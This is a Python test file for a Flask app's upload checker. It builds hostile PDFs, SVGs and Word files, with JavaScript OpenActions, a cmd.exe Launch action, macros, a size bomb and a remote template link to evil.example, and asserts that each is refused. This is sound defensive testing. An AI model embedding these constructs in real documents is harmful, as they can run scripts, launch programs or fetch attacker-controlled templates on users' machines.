"""Hostile and broken uploads: refused with a sentence, never opened by the reader's program."""

import zipfile
import zlib
from io import BytesIO
from pathlib import Path
from typing import Any

import docx
import pytest
from flask import Flask

from app.core import files, inspection
from app.core.errors import Invalid
from tests.factories.agreements import PDF, png

CATALOG = b"<</Type/Catalog/Pages 2 0 R"
PAPERS = frozenset({files.PDF, files.JPEG, files.PNG})


def with_catalog(more: bytes, objects: bytes = b"") -> bytes:
    return PDF.replace(CATALOG, CATALOG + more).replace(b"trailer", objects + b"trailer")


def packed_script() -> bytes:
    hidden = zlib.compress(b"4 0 <</S/JavaScript/JS(app.alert(1))>>")
    head = b"5 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(hidden)
    return with_catalog(b"", head + hidden + b"\nendstream endobj\n")


def many_pages() -> bytes:
    kids = b"3 0 R " * (inspection.MOST_PAGES + 1)
    return PDF.replace(b"[3 0 R]/Count 1", b"[" + kids + b"]/Count %d" % (inspection.MOST_PAGES + 1))


HOSTILE = {
    "script": (with_catalog(b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>"), "skrip"),
    "escaped script": (with_catalog(b"/OpenAction<</S/J#61vaScript/J#53(x)>>"), "skrip"),
    "packed script": (packed_script(), "skrip"),
    "program": (with_catalog(b"/OpenAction<</S/Launch/F(cmd.exe)>>"), "skrip"),
    "file within": (with_catalog(b"/Names<</EmbeddedFiles 9 0 R>>"), "skrip"),
    "too many pages": (many_pages(), "halaman"),
    "broken": (b"%PDF-1.7\n" + b"\0" * 300, "tidak dapat dibuka"),
    "svg with a script": (
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        "tidak diterima",
    ),
    "html called pdf": (b"<html><script>alert(1)</script>", "tidak diterima"),
    "broken picture": (png()[:40], "tidak dapat dibuka"),
}


@pytest.mark.same_queries
@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_paper_is_refused_with_a_sentence_and_not_kept(app: Flask, name: str) -> None:
    content, said = HOSTILE[name]
    with pytest.raises(Invalid) as refused:
        files.store(
            BytesIO(content), allowed=PAPERS, max_bytes=10_000_000, field="paper", look=inspection.look
        )
    assert (refused.value.field, said in refused.value.message) == ("paper", True), refused.value.message


@pytest.mark.same_queries
def test_a_plain_paper_is_kept_and_shown_page_by_page(app: Flask) -> None:
    for content, kind in ((PDF, files.PDF), (png(), files.PNG)):
        kept = files.store(BytesIO(content), allowed=PAPERS, max_bytes=10_000, look=inspection.look)
        path = files.path_of(kept.sha256)
        assert inspection.pages_of(path, kind) == 1
        assert (inspection.page_picture(path, kind, 1) or b"").startswith(b"\x89PNG")
        assert inspection.page_picture(path, kind, 2) is None


def a_docx(extra: dict[str, bytes] | None = None, *, drop: str = "") -> bytes:
    plain, out = BytesIO(), BytesIO()
    docx.Document().save(plain)
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        for part in source.namelist():
            if part != drop and part not in (extra or {}):
                packed.writestr(part, source.read(part))
        for part, content in (extra or {}).items():
            packed.writestr(part, content)
    return out.getvalue()


OUTER = (
    b'<Relationships xmlns="x"><Relationship Id="r" Type="http://x/relationships/attachedTemplate" '
    b'Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>'
)
ODD_DOCX: dict[str, Any] = {
    "macro": (lambda: a_docx({"word/vbaProject.bin": b"x"}), "makro"),
    "macro by type": (
        lambda: a_docx(
            {"[Content_Types].xml": b'<Types><Override ContentType="x.macroEnabled.main+xml"/></Types>'}
        ),
        "makro",
    ),
    "bomb": (
        lambda: a_docx({"word/media/a.bin": b"\0" * (inspection.LARGEST_UNPACKED + 1)}),
        "terlalu besar",
    ),
    "entities": (
        lambda: a_docx({"word/document.xml": b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'}),
        "bukan dokumen Word",
    ),
    "template elsewhere": (lambda: a_docx({"word/_rels/settings.xml.rels": OUTER}), "dari tempat lain"),
    "svg with a script": (
        lambda: a_docx({"word/media/a.svg": b'<svg xmlns="x"><script>alert(1)</script></svg>'}),
        "gambar berskrip",
    ),
    "svg with a handler": (
        lambda: a_docx({"word/media/a.svg": b'<svg xmlns="x"\nonload="alert(1)"/>'}),
        "gambar berskrip",
    ),
    "no document": (lambda: a_docx(drop="word/document.xml"), "bukan dokumen Word"),
    "old word": (lambda: b"\xd0\xcf\x11\xe0" + b"\0" * 600, ".docx"),
    "not packed": (lambda: b"PK\x03\x04" + b"x" * 100, "bukan dokumen Word"),
    "text": (lambda: b"halo", "bukan dokumen Word"),
}


@pytest.mark.same_queries
@pytest.mark.parametrize("name", ODD_DOCX)
def test_a_hostile_word_document_is_refused_with_a_sentence(app: Flask, name: str) -> None:
    make, said = ODD_DOCX[name]
    with pytest.raises(Invalid) as refused:
        inspection.look_at_docx(make(), field="template")
    assert (refused.value.field, said in refused.value.message) == ("template", True), refused.value.message


@pytest.mark.same_queries
def test_a_plain_word_document_is_taken(app: Flask) -> None:
    inspection.look_at_docx(a_docx({"word/media/a.svg": b'<svg xmlns="x"><path d="M0 0"/></svg>'}))


@pytest.mark.same_queries
def test_a_locked_pdf_is_told_from_a_broken_one(tmp_path: Path, app: Flask) -> None:
    locked = with_catalog(b"").replace(
        b"/Root 1 0 R",
        b"/Root 1 0 R/Encrypt<</Filter/Standard/V 1/R 2/P -4/O<"
        + b"ab" * 32
        + b">/U<"
        + b"cd" * 32
        + b">>>/ID[<00><00>]",
    )
    path = tmp_path / "locked.pdf"
    path.write_bytes(locked)
    with pytest.raises(Invalid) as refused:
        inspection.look(path, files.PDF)
    assert "kata sandi" in refused.value.message
